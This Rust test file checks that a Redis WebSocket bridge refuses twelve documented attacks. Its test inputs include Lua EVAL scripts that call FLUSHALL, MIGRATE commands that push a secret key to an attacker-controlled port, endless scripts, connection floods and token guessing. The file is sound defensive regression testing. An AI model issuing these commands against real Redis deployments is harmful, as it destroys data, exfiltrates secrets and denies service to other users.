//! Issue 23's attacks on the default bridge, one test per row of its table, each against a
//! real redis-server and a real bridge process, through a real WebSocket client — an attacker
//! with a browser and the page's token. Where a row is about the bridge's own policy, Redis
//! runs with a user that *could* do the harm (`--acl-check warn`), so that only the bridge
//! stands in the way.

mod common;

use std::net::TcpListener;
use std::time::Duration;

use common::*;
use futures_util::{SinkExt, StreamExt};
use redpipe::core::VecPipeline;
use redpipe::prelude::*;
use redpipe_bridge::Grant;
use redpipe_tests::RedisServer;
use tokio::io::AsyncReadExt;
use tokio_tungstenite::tungstenite::Message;
use tokio_tungstenite::tungstenite::protocol::frame::coding::CloseCode;

/// A bridge in front of Redis's all-powerful `default` user: only the policy protects it.
fn over_privileged(extra: &[&str]) -> (RedisServer, redpipe_tests::bridge::Bridge, Files) {
    let redis = RedisServer::start();
    let mut args = vec!["--acl-check", "warn"];
    args.extend_from_slice(extra);
    let (bridge, files) = bridge(&redis.url(), "", &args);
    (redis, bridge, files)
}

/// Row 1: `EVAL "return redis.call('FLUSHALL')" 0` (also `EVALSHA`, `EVAL_RO` after an
/// allowed `SCRIPT LOAD`) wiped the server; `KEYS`, `INFO`, `SWAPDB`, `SLOWLOG` were reachable
/// through scripts although denied directly.
#[tokio::test]
async fn scripts_are_refused_so_they_cannot_wipe_the_server() {
    let (redis, bridge, _files) = over_privileged(&[]);
    assert_eq!(redis.cli(&["SET", "canary", "alive"]), "OK");
    let mut ws = session(&bridge).await;
    let flush = "return redis.call('FLUSHALL')";
    let sha = redis.cli(&["SCRIPT", "LOAD", flush]);
    let r = replies(
        &mut ws,
        &[
            &["EVAL", flush, "0"],
            &["SCRIPT", "LOAD", flush],
            &["EVALSHA", &sha, "0"],
            &["EVAL_RO", "return redis.call('KEYS', '*')", "0"],
            &["EVALSHA_RO", &sha, "0"],
            &["FCALL", "f", "0"],
            &[
                "FUNCTION",
                "LOAD",
                "#!lua name=x\nredis.register_function('f', function() return 1 end)",
            ],
            &["KEYS", "*"],
            &["INFO"],
            &["SWAPDB", "0", "1"],
            &["SLOWLOG", "GET"],
            &["GET", "canary"],
        ],
    )
    .await
    .expect("replies");
    for (reply, name) in r.iter().zip([
        "EVAL",
        "SCRIPT",
        "EVALSHA",
        "EVAL_RO",
        "EVALSHA_RO",
        "FCALL",
        "FUNCTION",
        "KEYS",
        "INFO",
        "SWAPDB",
        "SLOWLOG",
    ]) {
        assert_eq!(
            reply,
            &format!("-NOPERM this bridge does not allow the command '{name}'")
        );
    }
    assert_eq!(r[11], "\"alive\"");
    assert_eq!(
        redis.cli(&["GET", "canary"]),
        "alive",
        "the server was not wiped"
    );
}

/// Row 2: `EVAL ... redis.call('MIGRATE', host, port, key, 0, 1000)` made Redis connect to a
/// host of the attacker's choice and send it the key's value.
#[tokio::test]
async fn redis_cannot_be_made_to_connect_elsewhere() {
    let (redis, bridge, _files) = over_privileged(&[]);
    redis.cli(&["SET", "secret", "s3cr3t"]);
    let attacker = TcpListener::bind("127.0.0.1:0").expect("listener");
    attacker.set_nonblocking(true).expect("nonblocking");
    let port = attacker.local_addr().expect("addr").port().to_string();
    let script = format!("return redis.call('MIGRATE', '127.0.0.1', {port}, 'secret', 0, 1000)");
    let mut ws = session(&bridge).await;
    let r = replies(
        &mut ws,
        &[
            &["EVAL", &script, "0"],
            &["MIGRATE", "127.0.0.1", &port, "secret", "0", "1000"],
            &[
                "MIGRATE",
                "127.0.0.1",
                &port,
                "",
                "0",
                "1000",
                "KEYS",
                "secret",
            ],
        ],
    )
    .await
    .expect("replies");
    assert!(r.iter().all(|reply| noperm(reply)), "{r:?}");
    // Redis's MIGRATE connects before it answers: had one run, its connection would wait here.
    assert!(
        matches!(attacker.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
        "Redis connected to the attacker's port"
    );
    assert_eq!(redis.cli(&["GET", "secret"]), "s3cr3t");
}

/// Row 3: `EVAL "while true do end" 0` answered `BUSY` to every client of the server until
/// `SCRIPT KILL`, which the bridge denied.
#[tokio::test]
async fn an_endless_script_cannot_block_the_server() {
    let (redis, bridge, _files) = over_privileged(&[]);
    let mut ws = session(&bridge).await;
    let r = replies(
        &mut ws,
        &[
            &["EVAL", "while true do end", "0"],
            &["EVAL_RO", "while true do end", "0"],
        ],
    )
    .await
    .expect("the bridge answers at once");
    assert!(r.iter().all(|reply| noperm(reply)), "{r:?}");
    assert_eq!(redis.cli(&["PING"]), "PONG", "other clients are served");
}

/// Row 4: `SCRIPT DEBUG SYNC` then `EVAL` blocked Redis for everyone, admin included, until
/// the attacker's session ended.
#[tokio::test]
async fn script_debugging_is_refused() {
    let (redis, bridge, _files) = over_privileged(&[]);
    let mut ws = session(&bridge).await;
    let r = replies(
        &mut ws,
        &[
            &["SCRIPT", "DEBUG", "SYNC"],
            &["EVAL", "redis.debug('x') return 1", "0"],
            &["PING"],
        ],
    )
    .await
    .expect("replies");
    assert!(noperm(&r[0]) && noperm(&r[1]), "{r:?}");
    assert_eq!(r[2], "+PONG");
    assert_eq!(redis.cli(&["PING"]), "PONG", "the admin is served");
}

/// Row 5: `SELECT 5`, `MOVE k 6`, `COPY k k DB 7`, `CLIENT LIST`, `CLIENT UNBLOCK`,
/// `SETRANGE k 536870911 x` were allowed.
#[tokio::test]
async fn other_databases_other_clients_and_huge_offsets_are_refused() {
    let (redis, bridge, _files) = over_privileged(&[]);
    redis.cli(&["SET", "k", "v"]);
    let mut ws = session(&bridge).await;
    let r = replies(
        &mut ws,
        &[
            &["SELECT", "5"],
            &["MOVE", "k", "6"],
            &["COPY", "k", "k", "DB", "7"],
            &["CLIENT", "LIST"],
            &["CLIENT", "UNBLOCK", "1"],
            &["SETRANGE", "big", "536870911", "x"],
            &["SETBIT", "big", "4294967295", "1"],
            &["CLIENT", "SETNAME", "page"],
            &["CLIENT", "GETNAME"],
            &["SETRANGE", "small", "10", "x"],
            &["GET", "k"],
        ],
    )
    .await
    .expect("replies");
    for (i, reply) in r[..7].iter().enumerate() {
        assert!(noperm(reply), "command {i}: {reply}");
    }
    assert!(r[5].contains("larger than the bridge's limit"), "{}", r[5]);
    assert_eq!(r[7..], ["+OK", "\"page\"", ":11", "\"v\""]);
    assert_eq!(redis.cli(&["EXISTS", "big"]), "0", "nothing was allocated");
    for db in ["6", "7"] {
        assert_eq!(redis.cli(&["-n", db, "DBSIZE"]), "0", "database {db}");
    }
}

/// Row 6: with a token mapped to the ACL user `~app:* +@all -@admin`, `SCAN`/`RANDOMKEY` listed
/// every key name and `EVAL ... FLUSHALL` still answered `+OK` (`@dangerous`, not `@admin`).
/// Now a token confined to a prefix names and sees only its keys, scripts are refused to it —
/// and the bridge refuses to start with such a user unless told to only warn.
#[tokio::test]
async fn a_prefixed_token_names_and_sees_only_its_keys() {
    let wide = acl_user("wide", "wide-pw", "~app:*", &["+@all", "-@admin"]);
    let redis = web_redis(&wide);
    for k in ["app:u1:a", "app:u1:b", "app:u2:secret", "other"] {
        redis.cli(&["SET", k, "1"]);
    }
    let (bridge, _files) = bridge(
        &url_as(&redis, "web", "web-pw"),
        "wide wide-pw\n",
        &["--acl-check", "warn"],
    );
    let token = mint(
        &Grant::new(Duration::from_secs(60))
            .user("wide")
            .prefix("app:u1:"),
    );
    let mut ws = login(&bridge.url(), &token).await;
    let r = replies(
        &mut ws,
        &[
            &["SCAN", "0", "COUNT", "1000"],
            &["SCAN", "0", "MATCH", "*", "COUNT", "1000"],
            &["RANDOMKEY"],
            &["EVAL", "return redis.call('FLUSHALL')", "0"],
            &["GET", "app:u2:secret"],
            &["MSET", "app:u1:c", "1", "app:u2:d", "2"],
            &["XREAD", "STREAMS", "app:u1:s", "app:u2:s", "0", "0"],
            &["GET", "app:u1:a"],
        ],
    )
    .await
    .expect("replies");
    for scan in &r[..2] {
        assert!(
            scan.contains("app:u1:a") && scan.contains("app:u1:b"),
            "{scan}"
        );
        assert!(!scan.contains("u2") && !scan.contains("other"), "{scan}");
    }
    assert!(r[2..7].iter().all(|reply| noperm(reply)), "{r:?}");
    assert_eq!(r[7], "\"1\"");
    assert_eq!(
        redis.cli(&["DBSIZE"]),
        "4",
        "nothing wiped, nothing written"
    );

    // At start-up, the same user stops the bridge (unless --acl-check warn).
    let files = Files::new("wide wide-pw\n");
    let out = std::process::Command::new(bin())
        .args(["--redis", &url_as(&redis, "web", "web-pw")])
        .args(["--listen", "127.0.0.1:0", "--origin", ORIGIN])
        .args(["--token-secret-file", &files.path("secret")])
        .args(["--users-file", &files.path("users")])
        .env("REDPIPE_BRIDGE_LOG", "error")
        .output()
        .expect("runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "it refused to start");
    assert!(!String::from_utf8_lossy(&out.stdout).contains("listening"));
    assert!(
        stderr.contains("wide")
            && stderr.contains("EVAL (@scripting)")
            && stderr.contains("FLUSHALL (@dangerous)"),
        "{stderr}"
    );
    assert!(
        !stderr.contains("the Redis user web "),
        "web has the recommended ACL: {stderr}"
    );
}

/// Row 7: 1 100 bare TCP connections without a token gave every real user 503 for ~10 s,
/// repeatably: the session slot was taken at `accept`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bare_connections_cannot_take_the_session_slots() {
    let (_redis, bridge, _files) = setup(&["--max-sessions", "4", "--max-per-ip", "8"]);
    let url = bridge.url();
    // The first 8 connections are the address's share: they wait for a handshake (for up to
    // 10 s). Every one after is closed as soon as the bridge accepts it.
    let mut bare = Vec::new();
    for i in 0..200 {
        let mut tcp = connect_from(ATTACKER_IP, &url).await.expect("connects");
        if i < 8 {
            bare.push(tcp);
            continue;
        }
        let mut byte = [0u8; 1];
        let read = tokio::time::timeout(Duration::from_secs(5), tcp.read(&mut byte)).await;
        assert!(
            matches!(read, Ok(Ok(0) | Err(_))),
            "connection {i} was not closed: {read:?}"
        );
    }
    for tcp in &mut bare {
        let mut byte = [0u8; 1];
        let read = tokio::time::timeout(Duration::from_millis(100), tcp.read(&mut byte)).await;
        assert!(read.is_err(), "one of the share was closed: {read:?}");
    }
    // Every session slot is still there for pages that log in.
    let mut pages = Vec::new();
    for _ in 0..4 {
        pages.push(login(&url, &fresh_token()).await);
    }
    for ws in &mut pages {
        let r = replies(ws, &[&["PING"]]).await.expect("replies");
        assert_eq!(r, ["+PONG"]);
    }
    drop(bare);
}

/// Row 8: 1 024 logged-in idle sessions held 205 MiB of the bridge and 1 025 Redis connections
/// for 5 minutes, renewable by one `PING`. Now a session ends at its maximum age however busy,
/// an address holds at most its share, and an idle session costs the bridge little.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pings_cannot_keep_a_session_and_one_address_holds_its_share() {
    let (redis, bridge, _files) = setup(&[
        "--max-session-age",
        "2",
        "--idle-timeout",
        "60",
        "--max-per-ip",
        "100",
    ]);
    let url = bridge.url();
    let mut ws = session(&bridge).await;
    let mut closed = None;
    for _ in 0..100 {
        ws.send(Message::binary(command(&["PING"])))
            .await
            .expect("send");
        match tokio::time::timeout(Duration::from_secs(5), ws.next()).await {
            Ok(Some(Ok(Message::Binary(b)))) => assert_eq!(b.as_ref(), b"+PONG\r\n"),
            Ok(Some(Ok(Message::Close(f)))) => {
                closed = f.map(|f| (f.code, f.reason.to_string()));
                break;
            }
            other => panic!("{other:?}"),
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        closed,
        Some((
            CloseCode::Away,
            "session reached its maximum age: reconnect".into()
        )),
        "a PING every 100 ms did not keep the session past 2 s"
    );

    // One address: 100 logged-in sessions, then no more.
    let token = fresh_token();
    let before = bridge.memory_kib("VmRSS").expect("memory");
    let mut idle = Vec::new();
    for _ in 0..100 {
        idle.push(
            login_from(ATTACKER_IP, &url, &token)
                .await
                .expect("within the share"),
        );
    }
    let after = bridge.memory_kib("VmRSS").expect("memory");
    assert!(
        login_from(ATTACKER_IP, &url, &token).await.is_err(),
        "the 101st from the same address"
    );
    let per_session = after.saturating_sub(before) / 100;
    eprintln!(
        "bridge memory: {per_session} KiB per idle logged-in session ({before} -> {after} KiB for 100)"
    );
    assert!(per_session < 100, "{per_session} KiB per idle session");
    let clients = redis.cli(&["CLIENT", "LIST"]).lines().count();
    assert!(clients > 100, "{clients} Redis connections");
    // They all end at their maximum age, and give their Redis connections back.
    for ws in &mut idle {
        assert_eq!(close_code(ws).await.map(|c| c.0), Some(CloseCode::Away));
    }
    let mut clients = usize::MAX;
    for _ in 0..100 {
        clients = redis.cli(&["CLIENT", "LIST"]).lines().count();
        if clients <= 1 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(clients, 1, "only redis-cli's own connection is left");
}

/// Row 9: 40 sessions each holding an unfinished 15 MiB `SET` took the bridge from 160 to 667
/// MiB (worst case 1 024 x 16 MiB = 16 GiB). Now all sessions share one memory budget.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unfinished_commands_share_one_memory_budget() {
    const BUDGET_MIB: u64 = 40;
    let (_redis, bridge, _files) = setup(&["--max-memory", "40M", "--max-per-ip", "100"]);
    let baseline = bridge.memory_kib("VmRSS").expect("memory");
    // A 15 MiB SET, sent but for its last bytes, in 512 KiB messages.
    let value = "v".repeat(15 << 20);
    let set = command(&["SET", "big", &value]);
    let unfinished = &set[..set.len() - 10];
    let mut held = Vec::new();
    let mut refused = Vec::new();
    for _ in 0..8 {
        let mut ws = session(&bridge).await;
        let mut sent_all = true;
        for chunk in unfinished.chunks(512 << 10) {
            if ws.send(Message::binary(chunk.to_vec())).await.is_err() {
                sent_all = false;
                break;
            }
        }
        // The bridge answers a ping once it has read every message before it: by then it has
        // kept this session's unfinished command, or closed the session.
        if sent_all {
            let _ = ws.send(Message::Ping(b"probe".to_vec().into())).await;
        }
        loop {
            match tokio::time::timeout(Duration::from_secs(30), ws.next()).await {
                Ok(Some(Ok(Message::Pong(_)))) => held.push(ws),
                Ok(Some(Ok(Message::Close(f)))) => {
                    refused.push(f.map(|f| (f.code, f.reason.to_string())));
                }
                Ok(Some(Ok(_))) => continue,
                other => panic!("{other:?}"),
            }
            break;
        }
    }
    let peak = bridge.memory_kib("VmHWM").expect("memory");
    eprintln!(
        "bridge memory: {baseline} KiB at start, peak {peak} KiB; {} unfinished 15 MiB commands held, {} sessions refused",
        held.len(),
        refused.len()
    );
    assert_eq!(
        held.len(),
        2,
        "two 15 MiB commands fit in 40 MiB, a third does not"
    );
    assert!(
        refused.iter().all(|r| r
            == &Some((
                CloseCode::Again,
                "bridge memory budget exhausted: try again later".into()
            ))),
        "{refused:?}"
    );
    assert!(
        peak < baseline + (BUDGET_MIB + 24) * 1024,
        "the bridge grew by {} KiB",
        peak - baseline
    );
    // Small commands still pass.
    let mut ws = session(&bridge).await;
    assert_eq!(
        replies(&mut ws, &[&["PING"]]).await.expect("replies"),
        ["+PONG"]
    );
}

/// Row 10: a `GET` of a 60 MB value cost 20.6 s of bridge CPU (redis-cli: 0.85 s):
/// `Relay::handle_redis` copied the whole partial reply again on every 64 KiB read, and held
/// it whole. Now the reply streams through: the bridge's memory barely moves. (The time is
/// printed, not asserted; the relay's unit tests check that each byte is copied once.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_60_mb_reply_streams_through() {
    const LEN: usize = 60_000_000;
    let (redis, bridge, _files) = setup(&[]);
    assert_eq!(
        redis.cli(&["SETRANGE", "big", &(LEN - 1).to_string(), "x"]),
        LEN.to_string()
    );
    let started = std::time::Instant::now();
    let cli = std::process::Command::new("redis-cli")
        .args(["-p", &redis.port().to_string(), "GET", "big"])
        .output()
        .expect("redis-cli");
    let cli_time = started.elapsed();
    assert!(cli.stdout.len() >= LEN);
    let mut ws = session(&bridge).await;
    let baseline = bridge.memory_kib("VmHWM").expect("memory");
    let started = std::time::Instant::now();
    let mut p = VecPipeline::new();
    let value = p.get::<Vec<u8>>("big").unwrap();
    run(&mut ws, &mut p).await.expect("pipeline");
    let bridge_time = started.elapsed();
    let value = value.read(&p).expect("the value");
    assert_eq!(value.len(), LEN);
    assert_eq!(value[LEN - 1], b'x');
    let peak = bridge.memory_kib("VmHWM").expect("memory");
    eprintln!(
        "60 MB GET: through the bridge {bridge_time:?}, redis-cli {cli_time:?}; bridge peak memory {baseline} -> {peak} KiB"
    );
    assert!(
        peak - baseline < 16 * 1024,
        "the bridge held {} KiB more for a 60 MB reply",
        peak - baseline
    );
}

/// Row 11: 636 token guesses a second, no throttling, and a missing `Origin` accepted by
/// default. Now failed logins are throttled per address, a handshake without an `Origin` is
/// refused with a reason (as is a wrong origin), and a static token must be long.
#[tokio::test]
async fn guessing_is_throttled_and_an_origin_is_required() {
    let (_redis, bridge, _files) = setup(&[]);
    let url = bridge.url();
    // Ten failures a minute, forgiven one every 6 s: a guess soon after the tenth is refused
    // without being checked (and counts, so that the address stays throttled).
    let mut guesses = 0;
    let throttled = Some(Some((
        CloseCode::Again,
        "too many failed logins from this address: try again later".into(),
    )));
    loop {
        guesses += 1;
        let refused = login_from(ATTACKER_IP, &url, &format!("guess-{guesses}"))
            .await
            .err();
        if refused == throttled {
            break;
        }
        assert_eq!(
            refused,
            Some(Some((CloseCode::Policy, "invalid token".into())))
        );
        assert!(guesses <= 30, "still guessing after {guesses} tries");
    }
    assert!(guesses > 10, "throttled after {guesses}");
    // The right token, from the guesser's address: refused while it is throttled; from
    // another address, a session.
    let token = fresh_token();
    assert_eq!(login_from(ATTACKER_IP, &url, &token).await.err(), throttled);
    let _page = login(&url, &token).await;

    // No Origin (not a browser): refused with a reason.
    let mut ws = open_from(
        USER_IP,
        &url,
        &[("authorization", &format!("Bearer {token}"))],
    )
    .await
    .expect("handshake");
    assert_eq!(
        close_code(&mut ws).await,
        Some((CloseCode::Policy, "an Origin header is required".into()))
    );
    let mut ws = open_from(USER_IP, &url, &[("origin", "https://evil.example")])
        .await
        .expect("handshake");
    assert_eq!(
        close_code(&mut ws).await,
        Some((
            CloseCode::Policy,
            "origin not allowed: https://evil.example".into()
        ))
    );

    // A short static token stops the start.
    let out = std::process::Command::new(bin())
        .args(["--redis", "redis://127.0.0.1:1", "--token", "guessable"])
        .output()
        .expect("runs");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("at least 32 characters"));
}

/// Row 12: `MULTI`, a denied command, a nested `MULTI`, `EXEC`: the nested `MULTI` cleared
/// the "denied" flag, `EXEC` ran and the results came back misaligned.
#[tokio::test]
async fn a_denied_command_aborts_its_transaction_nested_multi_or_not() {
    let (redis, bridge, _files) = setup(&[]);
    let mut ws = session(&bridge).await;
    let r = replies(
        &mut ws,
        &[
            &["MULTI"],
            &["FLUSHALL"],
            &["MULTI"],
            &["INCR", "t"],
            &["EXEC"],
            &["GET", "t"],
            &["MULTI"],
            &["INCR", "t"],
            &["MULTI"],
            &["SELECT", "1"],
            &["EXEC"],
            &["GET", "t"],
        ],
    )
    .await
    .expect("one reply per command");
    assert_eq!(r[0], "+OK");
    assert!(noperm(&r[1]), "{}", r[1]);
    assert_eq!(r[2], "-ERR MULTI calls can not be nested");
    assert_eq!(r[3], "+QUEUED");
    assert!(r[4].starts_with("-EXECABORT"), "{}", r[4]);
    assert_eq!(r[5], "$-1", "the INCR did not run");
    assert_eq!(
        r[6..9],
        ["+OK", "+QUEUED", "-ERR MULTI calls can not be nested"]
    );
    assert!(noperm(&r[9]) && r[10].starts_with("-EXECABORT"), "{r:?}");
    assert_eq!(r[11], "$-1");
    assert_eq!(redis.cli(&["EXISTS", "t"]), "0");
    let mut p = VecPipeline::new();
    let pong = p.ping().unwrap();
    run(&mut ws, &mut p)
        .await
        .expect("the stream is still aligned");
    assert_eq!(pong.read(&p).unwrap(), "PONG");
}
